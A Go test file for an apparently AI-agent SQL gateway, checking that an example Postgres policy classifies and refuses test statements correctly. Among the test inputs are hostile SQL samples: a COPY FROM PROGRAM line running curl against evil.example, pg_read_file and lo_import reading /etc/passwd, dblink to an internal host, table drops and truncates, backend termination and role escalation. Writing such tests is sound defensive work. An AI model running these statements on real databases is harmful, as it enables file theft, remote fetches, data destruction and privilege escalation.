package policy_test

import (
	"fmt"
	"testing"

	"github.com/airlock-mcp/airlock/policy"
)

// handFacts are the SQL facts the query_db parser gives for the statements in
// examples/policies/postgres.cases.yaml, written out by hand so this package
// can test its example without depending on tools/postgres.
var handFacts = map[string]policy.SQL{
	"select id, email, total from orders where id = 42":  readFacts("orders"),
	"select count(*) from orders":                        withFunctions(readFacts("orders"), "count"),
	"select * from orders":                               readFacts("orders"),
	"select 1":                                           readFacts(),
	"update orders set status = 'shipped' where id = 42": writeFacts(policy.Statement{Kind: "update", HasWhere: true, TablesWritten: []string{"orders"}}),
	"insert into orders (id, status) values (7, 'new')":  writeFacts(policy.Statement{Kind: "insert", TablesWritten: []string{"orders"}}),
	"delete from orders":                                 writeFacts(policy.Statement{Kind: "delete", TablesWritten: []string{"orders"}}),
	"update orders set status = 'lost'":                  writeFacts(policy.Statement{Kind: "update", TablesWritten: []string{"orders"}}),
	"drop table orders":                                  writeFacts(policy.Statement{Kind: "drop", TablesWritten: []string{"orders"}}),
	"truncate orders":                                    writeFacts(policy.Statement{Kind: "truncate", TablesWritten: []string{"orders"}}),
	"alter table orders add column note text":            writeFacts(policy.Statement{Kind: "alter", TablesWritten: []string{"orders"}}),
	"grant select on orders to public":                   writeFacts(policy.Statement{Kind: "grant"}),
	"select pg_terminate_backend(1234)":                  writeFacts(policy.Statement{Kind: "select", Functions: []string{"pg_terminate_backend"}}),
	"select pg_catalog.pg_terminate_backend(1234)":       writeFacts(policy.Statement{Kind: "select", Functions: []string{"pg_catalog.pg_terminate_backend"}}),
	"select pg_read_file('/etc/passwd')":                 writeFacts(policy.Statement{Kind: "select", Functions: []string{"pg_read_file"}}),
	"select lo_import('/etc/passwd')":                    writeFacts(policy.Statement{Kind: "select", Functions: []string{"lo_import"}}),
	"select * from dblink('host=10.0.0.9 dbname=billing', 'select 1') as t(x int)": writeFacts(policy.Statement{Kind: "select", Functions: []string{"dblink"}}),
	"copy orders to stdout":                                  writeFacts(policy.Statement{Kind: "copy", TablesRead: []string{"orders"}}),
	"copy orders from program 'curl -s http://evil.example'": writeFacts(policy.Statement{Kind: "copy", TablesWritten: []string{"orders"}}),
	"select 1; select 2":                                     {Statements: []policy.Statement{{Kind: "select"}, {Kind: "select"}}, StatementCount: 2, ReadOnly: true},
	"select 1; drop table orders":                            writeFacts(policy.Statement{Kind: "select"}, policy.Statement{Kind: "drop", TablesWritten: []string{"orders"}}),
	"set role postgres":                                      writeFacts(policy.Statement{Kind: "set"}),
	"selec * from orders":                                    {ParseError: `syntax error at or near "selec"`},
	"select pg_sleep(1)":                                     withFunctions(readFacts(), "pg_sleep"),
	"select query_to_xml('select id, status from orders', true, false, '')": withFunctions(readFacts("orders"), "query_to_xml"),
	"select query_to_xml('select pg_terminate_backend(pid) from pg_stat_activity', true, false, '')": writeFacts(policy.Statement{Kind: "select",
		TablesRead: []string{"pg_stat_activity"}, Functions: []string{"query_to_xml", "pg_terminate_backend"}}),
	"select * from hr.salaries": readFacts("hr.salaries"),
	"select * from salaries where exists (with salaries as (select 1) select 1 from salaries)": readFacts("salaries"),
	"select query_to_xml('select * from salaries', true, false, '')":                           withFunctions(readFacts("salaries"), "query_to_xml"),
	"select table_to_xml('salaries', true, false, '')":                                         withFunctions(readFacts("salaries"), "table_to_xml"),
	"explain (analyze false, analyze true) delete from orders where id = 42":                   writeFacts(policy.Statement{Kind: "explain", TablesWritten: []string{"orders"}}),
	"select archive_orders(30)":                                                                writeFacts(policy.Statement{Kind: "select", Functions: []string{"archive_orders"}}),
	"select (pid).pg_terminate_backend from pg_stat_activity":                                  writeFacts(policy.Statement{Kind: "select", TablesRead: []string{"pg_stat_activity"}, Functions: []string{"pg_terminate_backend"}}),
}

// handRefusals are the calls of the cases that query_db refuses before
// policy (tools.ErrOpaque), with the start of its reason.
var handRefusals = map[string]string{
	"select query_to_xml(q, true, false, '') from saved_queries":            "query_to_xml runs SQL given as text, and that text is not a string literal here",
	"select table_to_xml(relname::regclass, true, false, '') from pg_class": "table_to_xml reads the table its argument names, and that argument is not a string literal here: name the table in a string literal such as 'orders'",
	"select schema_to_xml('public', true, false, '')":                       "schema_to_xml reads every table of a schema, which cannot be listed before the call runs",
	"do $$ begin perform 1; end $$":                                         "DO runs a PL/pgSQL block whose statements the analysis cannot see",
}

func readFacts(tables ...string) policy.SQL {
	s := policy.SQL{Statements: []policy.Statement{{Kind: "select", TablesRead: tables}}, StatementCount: 1, ReadOnly: true, Tables: tables, TablesRead: tables}
	return s
}

func withFunctions(s policy.SQL, fns ...string) policy.SQL {
	s.Functions = fns
	s.Statements[0].Functions = fns
	return s
}

func writeFacts(stmts ...policy.Statement) policy.SQL {
	s := policy.SQL{Statements: stmts, StatementCount: len(stmts)}
	for _, st := range stmts {
		s.Functions = append(s.Functions, st.Functions...)
		s.TablesWritten = append(s.TablesWritten, st.TablesWritten...)
	}
	return s
}

var exampleResources = map[string]policy.Resource{
	"orders":         {Name: "orders", Kind: "postgres", Labels: map[string]string{"env": "prod"}},
	"orders-staging": {Name: "orders-staging", Kind: "postgres", Labels: map[string]string{"env": "staging"}},
}

func TestExamplePostgresPolicy(t *testing.T) {
	p, err := policy.Load("../examples/policies/postgres.yaml")
	if err != nil {
		t.Fatal(err)
	}
	if err := p.Check(
		func(g string) bool { return g == "readonly" || g == "readwrite" },
		func(m string) bool { return m == "pii" },
	); err != nil {
		t.Fatal(err)
	}
	data := mustRead(t, "../examples/policies/postgres.cases.yaml")
	cases, err := policy.ParseCases(data, "postgres.cases.yaml")
	if err != nil {
		t.Fatal(err)
	}
	build := func(c policy.Case) (policy.Input, error) {
		in := c.Input()
		res, ok := exampleResources[c.Resource]
		if !ok {
			return in, fmt.Errorf("unknown resource %q", c.Resource)
		}
		in.Resource = res
		sql, _ := c.Args["sql"].(string)
		if reason, ok := handRefusals[sql]; ok {
			return in, &policy.RefusedError{Reason: reason}
		}
		facts, ok := handFacts[sql]
		if !ok {
			return in, fmt.Errorf("no hand-written facts for %q", sql)
		}
		in.SQL = facts
		return in, nil
	}
	results := policy.RunCases(p, cases, build)
	if len(results) < 20 {
		t.Errorf("only %d cases", len(results))
	}
	for _, r := range results {
		if !r.Pass {
			t.Error(r)
		}
	}
}

func TestExampleDesignPolicyLoads(t *testing.T) {
	if _, err := policy.Load("../examples/policies/design.yaml"); err != nil {
		t.Fatal(err)
	}
}
